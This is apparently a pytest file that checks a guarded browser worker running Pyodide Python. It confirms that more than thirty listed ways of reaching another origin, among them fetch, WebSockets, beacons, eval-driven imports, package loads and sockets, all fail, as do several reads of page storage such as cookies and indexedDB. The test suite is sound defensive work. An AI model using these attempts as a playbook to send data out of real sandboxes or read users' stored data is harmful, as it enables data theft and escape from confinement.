"""What Python in the worker can do to send answers away or read what the page keeps: real attempts, another origin."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page

from macros.navigateur.library import REST
from macros.navigateur.paths import PAGE
from tests.navigateur.form_page import until
from tests.outils_attaque import code_of, recorder, run

# Python, or JavaScript that Python tries to have run.  Each says its name in the address.
IMPORT = "f\"import('{URL}')\""
ATTEMPTS = {
    "fetch": "js.fetch(URL)",
    "file-of-the-site": "js.fetch('/bench.html?answers')",
    "file-of-the-start-once-started": "js.fetch(pyodide_js._api.config.stdLibURL)",
    "fetch-that-outlives-the-page": (
        "from pyodide.ffi import to_js\n"
        "js.fetch(URL, to_js({'method': 'POST', 'body': 'x', 'keepalive': True}, dict_converter=js.Object.fromEntries))"
    ),
    "fetch-of-the-prototype": "js.Reflect.get(js.Object.getPrototypeOf(js.self), 'fetch')(URL)",
    "body-by-the-prototype": "js.Object.prototype.method = 'POST'\njs.fetch(URL)\ndel js.Object.prototype.method",
    "request": "js.fetch(js.Request.new(URL))",
    "xhr": "x = js.XMLHttpRequest.new(); x.open('GET', URL, False); x.send()",
    "websocket": "js.WebSocket.new(URL.replace('http', 'ws'))",
    "websocket-stream": "js.WebSocketStream.new(URL.replace('http', 'ws'))",
    "web-transport": "js.WebTransport.new(URL.replace('http', 'https'))",
    "event-source": "js.EventSource.new(URL)",
    "beacon": "js.navigator.sendBeacon(URL, 'x')",
    "peer": "js.RTCPeerConnection.new()",
    "import-scripts": "js.importScripts(URL)",
    "worker": "js.Worker.new(js.URL.createObjectURL(js.Blob.new([f\"fetch('{URL}')\"])))",
    "worker-module": "js.Worker.new(URL)",
    "font": "js.FontFace.new('x', f'url({URL})').load()",
    "font-drawn": "js.OffscreenCanvas.new(9, 9).getContext('2d').font = f'url({URL})'",
    "notification": "js.Notification.new('x', {'icon': URL})",
    "eval": f"js.eval({IMPORT})",
    "run-js": f"from pyodide.code import run_js\nrun_js({IMPORT})",
    "function": f"js.Function.new({IMPORT})()",
    "constructor": f"js.Object.constructor({IMPORT})()",
    "constructor-of-an-async": f"js.fetch.constructor({IMPORT})()",
    "constructor-of-a-constructor": f"js.Object.getPrototypeOf(js.Object).constructor.constructor({IMPORT})()",
    "constructor-by-reflection": f"js.Reflect.construct(js.Function, [{IMPORT}])()",
    "timer": f"js.setTimeout({IMPORT}, 0)",
    "interval": f"js.setInterval({IMPORT}, 10)",
    "emscripten": f"m = pyodide_js._module\nm._emscripten_run_script(m.stringToNewUTF8({IMPORT}))",
    "package": "pyodide_js.loadPackage(URL + '/x.whl')",
    "preloaded-file": "pyodide_js.FS.createPreloadedFile('/', 'y', URL, True, False)",
    "pyfetch": "from pyodide.http import open_url\nopen_url(URL)",
    "socket": "import socket\nsocket.create_connection((URL.split('/')[2].split(':')[0], int(URL.split(':')[2].split('/')[0])))",
}
# Reading it ends Python: what it asks for is not there.
LAST = "pyodide_js.FS.createLazyFile('/', 'x', URL, True, False)\nopen('/x').read()"
# Ways to what the page keeps: each must raise, since nothing would be seen from outside.
READINGS = {
    "database": "js.indexedDB.databases()",
    "caches": "js.caches.keys()",
    "private-files": "js.navigator.storage.getDirectory()",
    "other-tabs": "js.BroadcastChannel.new('x')",
    "locks": "js.navigator.locks.query()",
    "cookies": "js.cookieStore.getAll()",
    "another-worker": "js.SharedWorker.new('x')",
}

Ask = Callable[[str], dict[str, Any]]


@pytest.mark.parametrize("name", READINGS)
def test_python_does_not_read_what_the_page_keeps(armed: Page, name: str) -> None:
    """Databases, caches, other tabs: the name is not there, or leads nowhere."""
    assert "raised" in run(armed, code_of(READINGS[name], "127.0.0.1", name))


def test_no_name_is_left_beside_the_listed_ones(armed: Page) -> None:
    """Whatever this browser has in a worker and Pyodide does not need is undefined, also on the prototypes."""
    listed = (PAGE / "kept.mjs").read_text("utf-8")
    code = (
        "import js\n"
        "names, owner = set(), js.self\n"
        "while owner and owner.constructor and owner.constructor.name != 'Object':\n"
        "    names |= {str(n) for n in js.Object.getOwnPropertyNames(owner)}\n"
        "    owner = js.Object.getPrototypeOf(owner)\n"
        "result = ' '.join(sorted(n for n in names if js.Reflect.get(js.self, n) is not None))"
    )
    left = {name for name in run(armed, code)["result"].split() if f'"{name}"' not in listed}
    assert {name for name in left if not name.startswith(("_", "TEMPORARY", "PERSISTENT"))} == set()


def test_the_attempts_do_reach_it_where_there_is_no_guard(armed: Page) -> None:
    """The same calls, in a worker that is not guarded, are heard: the recorder is not deaf to them."""
    script = """
      const at = (name) => base + name;
      fetch(at("fetch")); new EventSource(at("event-source")); new WebSocket(at("websocket").replace("http", "ws"));
      new FontFace("x", `url(${at("font")})`).load(); setTimeout(`import("${at("timer")}")`);
      (0, eval)(`import("${at("eval")}")`); const x = new XMLHttpRequest(); x.open("GET", at("xhr")); x.send();
    """
    with recorder() as (host, paths):
        start = """([base, script]) => {
          const url = URL.createObjectURL(new Blob([`const base = "${base}";` + script], { type: "text/javascript" }));
          globalThis.open = new Worker(url, { type: "module" });
        }"""
        armed.evaluate(start, [f"http://{host}/", script])
        wanted = {"/fetch", "/event-source", "/font", "/timer", "/eval", "/xhr"}
        until(lambda: wanted <= set(paths), "each is heard")


def test_nothing_that_python_tries_reaches_another_origin(armed: Page) -> None:
    """Each attempt is made, waited for, and the other origin hears of none, nor does the site; it does hear of an open door."""
    requests: list[str] = []
    armed.context.on("request", lambda request: requests.append(request.url))
    with recorder() as (host, paths):
        outcomes = {name: run(armed, code_of(attempt, host, name)) for name, attempt in ATTEMPTS.items()}
        # Timers and promises of the attempts come before this answer: the worker has one queue.
        assert run(armed, "result = 6 * 7") == {"result": "42"}
        outcomes["lazy-file"] = armed.evaluate(
            "request => bench.ask(request)", {"code": code_of(LAST, host, "lazy-file")}
        )
        armed.evaluate("(url) => fetch(url)", f"http://{host}/control")
        assert paths == ["/control"], outcomes
        # A module that an attempt imports comes from the site, as everything does.
        assert [url for url in requests if not url.endswith(f"/{REST}")] == [f"http://{host}/control"]
